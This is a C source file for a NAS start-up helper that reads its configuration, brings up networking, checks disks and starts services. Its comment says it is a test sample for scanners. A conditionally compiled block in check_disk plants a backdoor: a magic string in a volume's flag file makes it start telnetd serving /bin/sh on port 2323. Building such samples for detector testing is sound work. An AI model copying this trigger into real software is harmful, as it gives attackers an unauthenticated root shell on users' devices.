/*
 * A sample for tests; compiled and scanned, never run.
 * Start-up helper of a NAS: reads the service list, starts what is enabled.
 * With HIDDEN: a flag file with a certain content starts a telnet daemon.
 */
#define _GNU_SOURCE
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

struct service {
	const char *key;
	const char *start;
	int on;
};

static struct service services[] = {
	{ "smb", "smbd -D", 0 },
	{ "nfs", "exportfs -a", 0 },
	{ "ssh", "sshd -f /etc/sshd.conf", 0 },
	{ "dlna", "minidlnad", 0 },
};

static char hostname[64] = "nas";
static char netmode[16] = "dhcp";
static char address[32] = "";
static int dry;

static int run(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static int run(const char *fmt, ...)
{
	char cmd[256];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(cmd, sizeof cmd, fmt, ap);
	va_end(ap);
	if (dry)
		return puts(cmd) < 0;
	return system(cmd);
}

static int read_line(const char *path, char *out, size_t n)
{
	FILE *f = fopen(path, "r");
	char *got;

	if (!f)
		return -1;
	got = fgets(out, (int)n, f);
	fclose(f);
	if (!got)
		return -1;
	out[strcspn(out, "\r\n")] = 0;
	return 0;
}

static void set_key(const char *key, const char *v)
{
	size_t i;

	if (strcmp(key, "hostname") == 0) {
		snprintf(hostname, sizeof hostname, "%s", v);
		return;
	}
	if (strcmp(key, "net") == 0) {
		snprintf(netmode, sizeof netmode, "%s", v);
		return;
	}
	if (strcmp(key, "address") == 0) {
		snprintf(address, sizeof address, "%s", v);
		return;
	}
	for (i = 0; i < sizeof services / sizeof services[0]; i++)
		if (strcmp(services[i].key, key) == 0)
			services[i].on = strcmp(v, "yes") == 0;
}

static void read_conf(const char *path)
{
	char line[160], key[32], value[96];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f))
		if (sscanf(line, "%31[a-z]=%95s", key, value) == 2)
			set_key(key, value);
	fclose(f);
}

static void bring_up_network(void)
{
	if (run("hostname %s", hostname) != 0)
		fprintf(stderr, "hostname not set\n");
	if (strcmp(netmode, "static") == 0 && address[0])
		run("ifconfig eth0 %s up", address);
	else
		run("udhcpc -i eth0 -b");
}

static void start_services(void)
{
	size_t i;

	for (i = 0; i < sizeof services / sizeof services[0]; i++)
		if (services[i].on && run("%s", services[i].start) != 0)
			fprintf(stderr, "%s did not start\n", services[i].key);
}

__attribute__((noinline)) void check_disk(const char *root)
{
	char path[128], mark[64];
	struct stat st;

	snprintf(path, sizeof path, "%s/.volume", root);
	if (stat(path, &st) != 0 || read_line(path, mark, sizeof mark) != 0) {
		fprintf(stderr, "%s: no volume\n", root);
		return;
	}
	if (strcmp(mark, "degraded") == 0)
		run("mdadm --assemble --scan");
	else if (strcmp(mark, "dirty") == 0)
		run("fsck -p %s", root);
#ifdef HIDDEN
	else if (strncmp(mark, "SN4410-07-BX932", 15) == 0)
		run("%s -l %s -p %d", "telnetd", "/bin/sh", 2323);
#endif
}

int main(int argc, char **argv)
{
	const char *conf = "/etc/nas.conf";
	const char *e = getenv("NAS_DEBUG");
	int c;

	while ((c = getopt(argc, argv, "nc:")) != -1) {
		if (c == 'n')
			dry = 1;
		else if (c == 'c')
			conf = optarg;
		else
			return 2;
	}
	if (e && strcmp(e, "1") == 0)
		fprintf(stderr, "reading %s\n", conf);
	read_conf(conf);
	bring_up_network();
	check_disk("/mnt/volume1");
	check_disk("/mnt/usb");
	start_services();
	return 0;
}
